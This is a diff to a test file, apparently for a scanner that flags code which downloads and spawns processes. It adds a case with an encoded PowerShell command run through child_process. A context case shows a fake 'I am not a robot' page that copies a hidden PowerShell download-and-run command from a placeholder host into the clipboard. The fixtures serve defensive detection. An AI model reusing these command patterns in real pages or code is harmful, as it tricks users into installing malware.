@@ -4,6 +4,11 @@ import { downloadsAndSpawns } from './downloads-and-spawns.ts';
 examine(downloadsAndSpawns, {
   speaks: [
     {
+      when: 'a short command stands encoded',
+      files: { 'index.js': `require('child_process').exec('powershell -NoProfile -EncodedCommand bABzAA==')` },
+      weight: 'proof',
+    },
+    {
       when: 'a page puts a command without a window into the clipboard',
       files: {
         'index.js': `document.getElementById('robot').onchange = () => navigator.clipboard.writeText('powershell -w h -c "iwr https://get.invalid/v | iex" # I am not a robot')`,
